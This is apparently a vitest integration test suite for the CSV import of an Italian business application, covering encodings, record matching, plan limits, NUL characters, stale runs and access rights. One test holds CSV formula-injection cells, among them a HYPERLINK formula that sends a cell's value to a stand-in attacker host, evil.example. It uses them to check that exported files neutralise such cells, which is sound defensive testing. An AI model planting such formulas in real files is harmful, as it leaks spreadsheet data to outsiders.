import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, startTestApp, type TestApp } from '../../../test/harness.js';
import { createCompany, randomPartitaIva } from '../../../test/factories.js';
import { importCsv, uploadMapping, waitForImport } from './test-helpers.js';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t?.close());

const rowsOf = async (table: string, aziendaId: string, cols: string) =>
  (await t.deps.database.executeSql(`select ${cols} from ${table} where azienda_id = $1 order by 1`, [aziendaId])).rows;

describe('customers import', () => {
  it('imports a 3,000-row Windows-1252 file with ; and accented names, then overwrites by registry id, VAT or tax code', async () => {
    const c = await createCompany(t);
    const s = await c.login('admin');
    const pivas = Array.from({ length: 3000 }, () => randomPartitaIva());
    const lines = ['Codice;Ragione sociale;Partita IVA;Codice fiscale;Città;Km'];
    pivas.forEach((p, i) => lines.push(`C${i + 1};"Società Fòrni ${i + 1}; Srl";${p};;Forlì;${i % 50},5`));
    lines.push('C-bad;Società senza IVA valida;12345678901;;Cesena;');
    lines.push(';;;;Rimini;');
    const first = await importCsv(t, s, 'clienti', Buffer.from(lines.join('\r\n'), 'latin1'));
    expect(first.mapping.encoding).toBe('windows-1252');
    expect(first.final).toMatchObject({
      status: 'completed',
      percentuale: 100,
      righeLette: 3002,
      creati: 3000,
      aggiornati: 0,
      scartati: 2,
    });
    expect(first.seen.some((x: any) => x.status === 'running' || x.status === 'queued')).toBe(true);
    const stored = await rowsOf('clienti', c.company.id, 'codice, ragione_sociale, citta, km_viaggio::text as km');
    expect(stored).toHaveLength(3000);
    expect(stored.find((r: any) => r.codice === 'C7')).toEqual({
      codice: 'C7',
      ragione_sociale: 'Società Fòrni 7; Srl',
      citta: 'Forlì',
      km: '6.50',
    });
    const rejected = await call(t.app, 'GET', `/api/imports/import/${first.final.id}/scarti`, s);
    expect(rejected.json.items.map((r: any) => [r.riga, r.errors.map((e: any) => e.code)])).toEqual([
      [3002, ['partita_iva_check']],
      [3003, ['required']],
    ]);

    // Same registry id, same VAT, same tax code: each overwrites; a new one is created.
    const second = await importCsv(
      t,
      s,
      'clienti',
      Buffer.from(
        [
          'codice;ragione_sociale;partita_iva;codice_fiscale;citta',
          'c 1;Primo aggiornato;;;',
          `;Secondo per IVA;${pivas[1]};RSSMRA80A01H501U;Bologna`,
          ';Secondo per codice fiscale;;RSSMRA80A01H501U;Modena',
          ';Nuovo cliente;;;Ravenna',
        ].join('\n'),
      ),
    );
    expect(second.final).toMatchObject({ status: 'completed', creati: 1, aggiornati: 3, scartati: 0 });
    const after = await rowsOf('clienti', c.company.id, 'codice, ragione_sociale, partita_iva, codice_fiscale, citta');
    expect(after).toHaveLength(3001);
    // Matched case and spaces aside; the file's spelling is kept.
    expect(after.find((r: any) => r.codice === 'c 1')).toMatchObject({
      ragione_sociale: 'Primo aggiornato',
      partita_iva: pivas[0],
      citta: 'Forlì',
    });
    expect(after.find((r: any) => r.codice === 'C2')).toMatchObject({
      ragione_sociale: 'Secondo per codice fiscale',
      partita_iva: pivas[1],
      codice_fiscale: 'RSSMRA80A01H501U',
      citta: 'Modena',
    });
    // A registry id matches case and spaces aside ('c 1' is C1); a new customer without one gets the next.
    expect(after.find((r: any) => r.ragione_sociale === 'Nuovo cliente')).toMatchObject({
      codice: 'C000001',
      citta: 'Ravenna',
    });
  });

  it('stops creating customers at the plan limit (0006) but still updates', async () => {
    const c = await createCompany(t);
    const s = await c.login('admin');
    // Fill the company up to one below the limit of one slot, straight in the table.
    await t.deps.database.executeSql(
      `insert into clienti (azienda_id, codice, ragione_sociale) select $1, 'P' || g, 'Pieno ' || g from generate_series(1, 7999) g`,
      [c.company.id],
    );
    const r = await importCsv(
      t,
      s,
      'clienti',
      Buffer.from('codice;ragione_sociale\nP1;Aggiornato\nN1;Nuovo uno\nN2;Nuovo due\n'),
    );
    expect(r.final).toMatchObject({ status: 'completed', creati: 1, aggiornati: 1, scartati: 1 });
    const rej = await call(t.app, 'GET', `/api/imports/import/${r.final.id}/scarti`, s);
    expect(rej.json.items).toEqual([
      {
        riga: 4,
        errors: [{ field: null, code: '0006', message: 'Raggiunto il limite di nuovi clienti (8000)' }],
        values: ['N2', 'Nuovo due'],
      },
    ]);
  });

  it("writes with the manual save's rules: nothing while over the limit (0013), coordinates cleared when the address changes", async () => {
    const c = await createCompany(t);
    const s = await c.login('admin');
    await t.deps.database.executeSql(
      `insert into clienti (azienda_id, codice, ragione_sociale, indirizzo, citta, latitude, longitude)
       values ($1, 'S1', 'Fermo', 'Via Roma 1', 'Forlì', 44.2, 12.0), ($1, 'S2', 'Trasloca', 'Via Po 2', 'Forlì', 44.2, 12.0)`,
      [c.company.id],
    );
    const moved = await importCsv(
      t,
      s,
      'clienti',
      Buffer.from(
        'codice;ragione_sociale;indirizzo;citta\nS1;Fermo;Via Roma 1;Forlì\nS2;Trasloca;Via Garibaldi 9;Cesena\n',
      ),
    );
    expect(moved.final).toMatchObject({ status: 'completed', aggiornati: 2, scartati: 0 });
    expect(await rowsOf('clienti', c.company.id, 'codice, citta, latitude, longitude')).toEqual([
      { codice: 'S1', citta: 'Forlì', latitude: 44.2, longitude: 12 },
      { codice: 'S2', citta: 'Cesena', latitude: null, longitude: null },
    ]);

    // More customers than one slot allows (slots given up): the manual save answers 0013, so does every row.
    await t.deps.database.executeSql(
      `insert into clienti (azienda_id, codice, ragione_sociale) select $1, 'P' || g, 'Pieno ' || g from generate_series(1, 7999) g`,
      [c.company.id],
    );
    const manual = await call(t.app, 'POST', '/api/clienti/cliente', { ...s, body: { ragione_sociale: 'A mano' } });
    expect([manual.status, manual.json.code]).toEqual([403, '0013']);
    const frozen = await importCsv(t, s, 'clienti', Buffer.from('codice;ragione_sociale\nS1;Rinominato\nN1;Nuovo\n'));
    expect(frozen.final).toMatchObject({ status: 'completed', creati: 0, aggiornati: 0, scartati: 2 });
    const rej = await call(t.app, 'GET', `/api/imports/import/${frozen.final.id}/scarti`, s);
    expect(rej.json.items.map((x: any) => [x.riga, x.errors[0].code, x.errors[0].message])).toEqual([
      [2, '0013', manual.json.message],
      [3, '0013', manual.json.message],
    ]);
    const s1 = await t.deps.database.executeSql(
      `select ragione_sociale from clienti where azienda_id = $1 and codice = 'S1'`,
      [c.company.id],
    );
    expect(s1.rows).toEqual([{ ragione_sociale: 'Fermo' }]);
  });
});

describe('articles import', () => {
  it('imports a tab-separated UTF-8 file and overwrites by code or external reference', async () => {
    const c = await createCompany(t);
    const s = await c.login('admin');
    const body = ['codice\tdescrizione\tum\trif esterno\tprezzo']
      .concat(Array.from({ length: 2000 }, (_, i) => `A${i}\tVite ${i} àèì\tpz\tEXT${i}\t1.234,50`))
      .join('\n');
    const first = await importCsv(t, s, 'articoli', Buffer.from(body), { separator: 'tab' });
    expect(first.final).toMatchObject({ status: 'completed', creati: 2000, aggiornati: 0, scartati: 0 });
    const second = await importCsv(
      t,
      s,
      'articoli',
      Buffer.from('codice;riferimento_esterno;descrizione\nA1;;Per codice\nNUOVO;EXT2;Per riferimento\n'),
    );
    expect(second.final).toMatchObject({ creati: 0, aggiornati: 2 });
    const rows = await rowsOf(
      'articoli',
      c.company.id,
      'codice, riferimento_esterno, descrizione, prezzo_vendita::text as prezzo',
    );
    expect(rows).toHaveLength(2000);
    expect(rows.find((r: any) => r.codice === 'A1')).toMatchObject({
      descrizione: 'Per codice',
      riferimento_esterno: 'EXT1',
      prezzo: '1234.50',
    });
    expect(rows.find((r: any) => r.riferimento_esterno === 'EXT2')).toMatchObject({
      codice: 'NUOVO',
      descrizione: 'Per riferimento',
    });
  });
});

describe('import files', () => {
  it('writes formula-looking cells back neutralised, and only who may import reads them', async () => {
    const c = await createCompany(t);
    const admin = await c.login('admin');
    const lines = [
      'codice;ragione_sociale;partita_iva;citta',
      'X1;"=HYPERLINK(""http://evil.example/?""&A1;""click"")";12345678901;+39 Forlì',
      'X2;@SUM(1+1);12345678901;-2',
    ];
    const r = await importCsv(t, admin, 'clienti', Buffer.from(lines.join('\n')));
    expect(r.final).toMatchObject({ status: 'completed', creati: 0, scartati: 2 });
    const file = await call(t.app, 'GET', `/api/imports/import/${r.final.id}/scarti.csv`, admin);
    expect(file.status).toBe(200);
    const body = file.raw.body.replace(/^\uFEFF/, '');
    const rows = body.trim().split(/\r?\n/);
    expect(rows[0]).toBe('riga;motivi');
    expect(rows[1]).toMatch(/^2;/);
    expect(rows[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""click"")"`);
    expect(rows[1]).toContain(";'+39 Forlì");
    expect(rows[2]).toContain(";'@SUM(1+1);");
    expect(rows[2]).toMatch(/;'-2$/);
    // No cell of the file starts a formula.
    for (const line of rows) for (const cell of line.split(';')) expect(cell).not.toMatch(/^[=+@-]/);

    // A technician reads customers but may not import them: none of the import's files.
    const tech = await c.login('tech');
    expect((await call(t.app, 'GET', '/api/clienti/clienti', tech)).status).toBe(200);
    for (const path of ['', '/scarti', '/scarti.csv']) {
      const res = await call(t.app, 'GET', `/api/imports/import/${r.final.id}${path}`, tech);
      expect(res.status, path).toBe(403);
    }
    const list = await call(t.app, 'GET', '/api/imports/imports', tech);
    expect(list.status).toBe(200);
    expect(list.json.items).toEqual([]);
    const adminList = await call(t.app, 'GET', '/api/imports/imports', admin);
    expect(adminList.json.items.map((i: any) => i.id)).toContain(r.final.id);
  });
});

describe('NUL in a file', () => {
  it('past the first 64 KB refuses that row with its reason and imports the others', async () => {
    const c = await createCompany(t);
    const s = await c.login('admin');
    const lines = ['codice;ragione_sociale;citta;nota non importata'];
    for (let i = 1; i <= 2000; i++) lines.push(`N${i};Cliente numero ${i} di prova con un nome lungo;Cesena;x`);
    lines[1800] = 'N1800;Cliente\u0000 rotto;Cesena;x';
    lines[1900] = 'N1900;Cliente con nota rotta;Cesena;a\u0000b';
    lines[1950] = 'N1950;Cliente\u000Bcon tab verticale;Cesena;x';
    const body = Buffer.from(lines.join('\n'));
    expect(body.indexOf(0)).toBeGreaterThan(64 * 1024);
    const r = await importCsv(t, s, 'clienti', body);
    expect(r.final).toMatchObject({ status: 'completed', creati: 1998, scartati: 2 });
    const rej = await call(t.app, 'GET', `/api/imports/import/${r.final.id}/scarti`, s);
    expect(rej.json.items).toEqual([
      {
        riga: 1801,
        errors: [
          expect.objectContaining({ field: 'ragione_sociale', code: 'nul', message: expect.stringContaining('NUL') }),
        ],
        values: ['N1800', 'Cliente\uFFFD rotto', 'Cesena', 'x'],
      },
      {
        // Any other control character XML forbids is refused by the same rule, naming it.
        riga: 1951,
        errors: [expect.objectContaining({ field: 'ragione_sociale', message: expect.stringContaining('U+000B') })],
        values: ['N1950', 'Cliente\uFFFDcon tab verticale', 'Cesena', 'x'],
      },
    ]);
  });
});

describe('a run whose process died', () => {
  it('is ended as failed with its reason once its heartbeat is old, and no longer blocks a new import', async () => {
    const c = await createCompany(t);
    const s = await c.login('admin');
    const upload = async () => {
      const m = await uploadMapping(
        t,
        s,
        { table: 'clienti', separator: ';', headerInFirstLine: 'true' },
        { name: 'c.csv', content: Buffer.from('ragione_sociale;citta\nUno;Forlì\n') },
      );
      expect(m.status).toBe(200);
      return m.json.item;
    };
    const killed = await upload();
    const [row] = (await t.deps.database.executeSql('select storage_key from importazioni where id = $1', [killed.id]))
      .rows as { storage_key: string }[];
    // As a killed worker leaves it: running, its last heartbeat long ago.
    const stale = t.deps.config.IMPORT_STALE_SEC + 5;
    await t.deps.database.executeSql(
      `update importazioni set stato = 'running', mapping = '[]', started_at = now() - make_interval(secs => $2),
       heartbeat_at = now() - make_interval(secs => $2) where id = $1`,
      [killed.id, stale],
    );
    // A live run (fresh heartbeat) blocks a second import: the control.
    await t.deps.database.executeSql(`update importazioni set heartbeat_at = now() where id = $1`, [killed.id]);
    const next = await upload();
    const blocked = await call(t.app, 'POST', '/api/imports/import', {
      ...s,
      body: { id: next.id, mapping: next.mapping },
    });
    expect(blocked.status).toBe(409);
    expect((await call(t.app, 'GET', `/api/imports/import/${killed.id}`, s)).json.item.status).toBe('running');

    await t.deps.database.executeSql(
      `update importazioni set heartbeat_at = now() - make_interval(secs => $2) where id = $1`,
      [killed.id, stale],
    );
    const seen = await call(t.app, 'GET', `/api/imports/import/${killed.id}`, s);
    expect(seen.json.item).toMatchObject({ status: 'failed', errore: expect.stringContaining('interrotta') });
    expect(await t.deps.storage.size(row!.storage_key)).toBeNull();
    const started = await call(t.app, 'POST', '/api/imports/import', {
      ...s,
      body: { id: next.id, mapping: next.mapping },
    });
    expect(started.status).toBe(200);
    const done = await waitForImport(t, s, next.id);
    expect(done.at(-1)).toMatchObject({ status: 'completed', creati: 1 });
  });
});

describe('rows without registry id, VAT or tax code', () => {
  it('are matched on name, address and city when the file is imported again, not made twice', async () => {
    const c = await createCompany(t);
    const s = await c.login('admin');
    const file = (rows: string[]) => Buffer.from(['ragione_sociale;indirizzo;citta;telefono', ...rows].join('\n'));
    const first = await importCsv(
      t,
      s,
      'clienti',
      file(['Bar Centrale;Via Roma 1;Forlì;1', 'Bar Centrale;Via Emilia 3;Cesena;2']),
    );
    expect(first.final).toMatchObject({ status: 'completed', creati: 2, aggiornati: 0 });
    // Again, spelled differently (case, accents, spaces): the same two customers, updated.
    const again = await importCsv(
      t,
      s,
      'clienti',
      file([
        'BAR  centrale;via roma 1;FORLI;10',
        'Bar Centrale;Via Emilia 3;Cesena;20',
        'Bar Centrale;Via Emilia 3;Rimini;30',
      ]),
    );
    expect(again.final).toMatchObject({ status: 'completed', creati: 1, aggiornati: 2, scartati: 0 });
    const rows = await rowsOf('clienti', c.company.id, 'citta, telefono, codice');
    expect(rows.map((r: any) => [r.citta, r.telefono]).sort()).toEqual([
      ['Cesena', '20'],
      ['FORLI', '10'], // the file's spelling wins, as for any update
      ['Rimini', '30'],
    ]);
    expect(rows.map((r: any) => r.codice).sort()).toEqual(['C000001', 'C000002', 'C000003']);
  });
});
